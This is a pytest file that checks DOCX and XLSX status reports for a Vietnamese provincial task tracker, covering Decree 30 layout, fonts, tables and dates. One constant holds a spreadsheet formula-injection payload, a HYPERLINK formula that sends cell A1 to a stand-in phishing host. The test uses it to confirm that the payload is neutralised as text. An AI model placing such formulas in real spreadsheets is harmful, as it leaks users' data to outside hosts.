"""The status report as files: a DOCX ready to sign in the layout of Decree 30/2020/NĐ-CP, and an
XLSX of the same tables, both from a ``Summary`` made by hand."""

from __future__ import annotations

import io
import time
from datetime import date, datetime

import pytest
from docx import Document
from openpyxl import load_workbook

from ioc57.tasks.report_docx import docx_bytes
from ioc57.tasks.report_tables import written_date
from ioc57.tasks.report_xlsx import xlsx_bytes
from ioc57.tasks.status import STATUSES
from ioc57.tasks.summary import Difficulty, Line, Overdue, Summary

ISSUER = "UBND tỉnh Quảng Trị\nSở Khoa học và Công nghệ"
HOSTILE = '=HYPERLINK("http://phishing.example/?d="&A1,"Báo cáo")'


def counts(**given: int) -> dict[str, int]:
    return {status: given.get(status, 0) for status in STATUSES}


SKHCN = counts(completed_on_time=4, completed_late=1, within_deadline=3, overdue=1, reported=2)
SNV = counts(completed_on_time=2, overdue=2, not_reported=1)
TOTALS = {s: SKHCN[s] + SNV[s] for s in STATUSES}
LATE = Overdue(
    task_id=7,
    code="2.3",
    content="Xây dựng nền tảng tích hợp,\x0b chia sẻ dữ liệu cấp tỉnh (LGSP)",
    programme="144/CTHĐ-TU",
    agency="Sở Nội vụ",
    leader="Phó Chủ tịch UBND tỉnh",
    deadline=date(2025, 6, 30),
    extended_deadline=date(2025, 9, 30),
    days_overdue=88,
)
ASKED = Difficulty(
    task_id=9,
    report_id=31,
    code="1.4",
    agency="Sở Khoa học và Công nghệ",
    reported_on=date(2026, 1, 12),
    difficulties="Thiếu kinh phí triển khai",
    proposals=HOSTILE,
)


def summary(overdue=(LATE,), simulated=True) -> Summary:
    return Summary(
        title="tỉnh Quảng Trị",
        province_code="44",
        as_of=date(2026, 2, 5),
        totals=TOTALS,
        by_agency=[
            Line("SKHCN-44", "Sở Khoa học và Công nghệ", SKHCN),
            Line("SNV-44", "Sở Nội vụ", SNV),
        ],
        overdue=list(overdue),
        difficulties=[ASKED],
        simulated=simulated,
    )


def texts(cell_or_doc) -> str:
    return "\n".join(p.text for p in cell_or_doc.paragraphs)


def every_run(doc):
    for paragraph in doc.paragraphs:
        yield from paragraph.runs
    for table in doc.tables:
        for row in table.rows:
            for cell in row.cells:
                for paragraph in cell.paragraphs:
                    yield from paragraph.runs


@pytest.fixture(scope="module")
def report():
    body = docx_bytes(
        summary(),
        issuer=ISSUER,
        place="Quảng Trị",
        number="12/BC-SKHCN",
        signer="KT. Giám đốc\nPhó Giám đốc\nNguyễn Văn An",
    )
    return Document(io.BytesIO(body))


def test_the_docx_has_the_header_block_the_fonts_and_the_page_of_decree_30(report):
    from docx.oxml.ns import qn

    issuer, motto = report.tables[0].rows[0].cells
    assert texts(issuer).split("\n") == [
        "UBND TỈNH QUẢNG TRỊ",
        "SỞ KHOA HỌC VÀ CÔNG NGHỆ",
        "",  # the rule under it
        "Số: 12/BC-SKHCN",
    ]
    assert issuer.paragraphs[1].runs[0].bold and not issuer.paragraphs[0].runs[0].bold
    assert texts(motto).split("\n") == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "",
        "Quảng Trị, ngày 05 tháng 02 năm 2026",
    ]
    assert motto.paragraphs[3].runs[0].italic
    body = texts(report)
    assert "BÁO CÁO\nTình hình thực hiện nhiệm vụ của tỉnh Quảng Trị đến ngày 05/02/2026" in body
    assert "dữ liệu mô phỏng" in body

    fonts = report.styles.element.find(qn("w:docDefaults")).find(".//" + qn("w:rFonts"))
    assert {fonts.get(qn(f"w:{a}")) for a in ("ascii", "hAnsi", "eastAsia", "cs")} == {
        "Times New Roman"
    }
    assert report.styles["Normal"].font.name == "Times New Roman"
    runs = list(every_run(report))
    assert {run.font.name for run in runs} <= {None}  # none names a font of its own
    assert {run.font.size.pt for run in runs if run.font.size} <= {11, 12, 13, 14}
    assert report.styles["Normal"].font.size.pt == 14

    page = report.sections[0]
    assert (round(page.page_width.mm), round(page.page_height.mm)) == (210, 297)
    assert 20 <= round(page.top_margin.mm) <= 25 and 20 <= round(page.bottom_margin.mm) <= 25
    assert 30 <= round(page.left_margin.mm) <= 35 and 15 <= round(page.right_margin.mm) <= 20


def test_the_docx_holds_the_summary_the_overdue_list_and_the_difficulties(report):
    _header, by_agency, overdue, closing = report.tables
    head = [cell.text for cell in by_agency.rows[0].cells]
    assert head[:3] == ["STT", "Cơ quan chủ trì", "Tổng số"]
    assert head[3:] == [
        "Hoàn thành đúng hạn",
        "Hoàn thành quá hạn",
        "Đang thực hiện trong hạn",
        "Quá hạn",
        "Đã báo cáo kỳ này",
        "Chưa báo cáo kỳ này",
        "Tỷ lệ hoàn thành đúng hạn (%)",
    ]
    rows = [[cell.text for cell in row.cells] for row in by_agency.rows[1:]]
    # 4 on time of 6 due (4 + 1 late + 1 overdue): 66,7 %
    assert rows[0] == ["1", "Sở Khoa học và Công nghệ", "11", "4", "1", "3", "1", "2", "0", "66,7"]
    assert rows[1] == ["2", "Sở Nội vụ", "5", "2", "0", "0", "2", "0", "1", "50"]
    assert rows[2] == ["", "Tổng cộng", "16", "6", "1", "3", "3", "2", "1", "60"]

    (late,) = [[cell.text for cell in row.cells] for row in overdue.rows[1:]]
    assert late == [
        "1",
        "2.3",
        "Xây dựng nền tảng tích hợp, chia sẻ dữ liệu cấp tỉnh (LGSP)",  # no control character
        "Sở Nội vụ",
        "Phó Chủ tịch UBND tỉnh",
        "30/06/2025\n(gia hạn đến 30/09/2025)",
        "88",
    ]
    body = texts(report)
    assert "Tổng số nhiệm vụ: 16, trong đó 13 nhiệm vụ có thời hạn và 3 nhiệm vụ" in body
    assert "Sở Khoa học và Công nghệ, nhiệm vụ 1.4 (báo cáo ngày 12/01/2026)" in body
    assert "Thiếu kinh phí triển khai" in body and HOSTILE in body

    recipients, signer = closing.rows[0].cells
    assert texts(recipients).startswith("Nơi nhận:")
    lines = [line for line in texts(signer).split("\n") if line]
    assert lines == ["KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC", "Nguyễn Văn An"]


def test_a_draft_leaves_the_number_and_the_signature_to_the_clerk():
    doc = Document(
        io.BytesIO(
            docx_bytes(
                summary(overdue=(), simulated=False),
                issuer="UBND TỈNH QUẢNG TRỊ",
                place="Quảng Trị",
            )
        )
    )
    issuer, _motto = doc.tables[0].rows[0].cells
    assert texts(issuer).split("\n")[0] == "UBND TỈNH QUẢNG TRỊ"
    assert "Số:" in texts(issuer) and "/BC-" in texts(issuer)
    body = texts(doc)
    assert "Không có nhiệm vụ quá hạn." in body and "mô phỏng" not in body
    assert len(doc.tables) == 3  # the header, the summary, the closing
    assert "QUYỀN HẠN, CHỨC VỤ CỦA NGƯỜI KÝ" in texts(doc.tables[2].rows[0].cells[1])


@pytest.mark.parametrize(
    ("day", "written"),
    [
        (date(2026, 2, 5), "Quảng Trị, ngày 05 tháng 02 năm 2026"),
        (date(2026, 3, 15), "Quảng Trị, ngày 15 tháng 3 năm 2026"),
        (date(2025, 12, 1), "Quảng Trị, ngày 01 tháng 12 năm 2025"),
    ],
)
def test_the_date_is_written_with_a_zero_before_a_day_below_10_and_months_1_and_2(day, written):
    assert written_date("Quảng Trị", day) == written


def test_the_xlsx_holds_the_same_figures_and_no_formula():
    book = load_workbook(io.BytesIO(xlsx_bytes(summary())))
    assert book.sheetnames == ["Tổng hợp", "Quá hạn", "Khó khăn vướng mắc"]
    by_agency, overdue, asked = book.worksheets
    assert "dữ liệu mô phỏng" in by_agency["A1"].value
    rows = [[cell.value for cell in row] for row in by_agency.iter_rows(min_row=3)]
    assert rows[0] == [1, "Sở Khoa học và Công nghệ", 11, 4, 1, 3, 1, 2, 0, 66.7]
    assert rows[2] == [None, "Tổng cộng", 16, 6, 1, 3, 3, 2, 1, 60]
    (late,) = [[cell.value for cell in row] for row in overdue.iter_rows(min_row=3)]
    assert late[1] == "2.3" and late[4] == "Sở Nội vụ" and late[8] == 88
    assert late[6:8] == [datetime(2025, 6, 30), datetime(2025, 9, 30)]
    assert overdue.cell(row=3, column=7).number_format == "dd/mm/yyyy"
    (row,) = asked.iter_rows(min_row=3)
    assert row[5].value == "'" + HOSTILE and row[5].data_type == "s"


def test_the_docx_of_a_province_of_300_tasks():
    many = [
        Overdue(
            i,
            f"{i // 10}.{i % 10}",
            LATE.content * 2,
            LATE.programme,
            LATE.agency,
            LATE.leader,
            LATE.deadline,
            None,
            300 - i,
        )
        for i in range(300)
    ]
    started = time.perf_counter()
    body = docx_bytes(summary(overdue=many), issuer=ISSUER, place="Quảng Trị")
    took = time.perf_counter() - started
    print(f"DOCX of 300 overdue tasks: {took:.2f} s, {len(body) / 1024:.0f} KiB")
    assert len(Document(io.BytesIO(body)).tables[2].rows) == 301
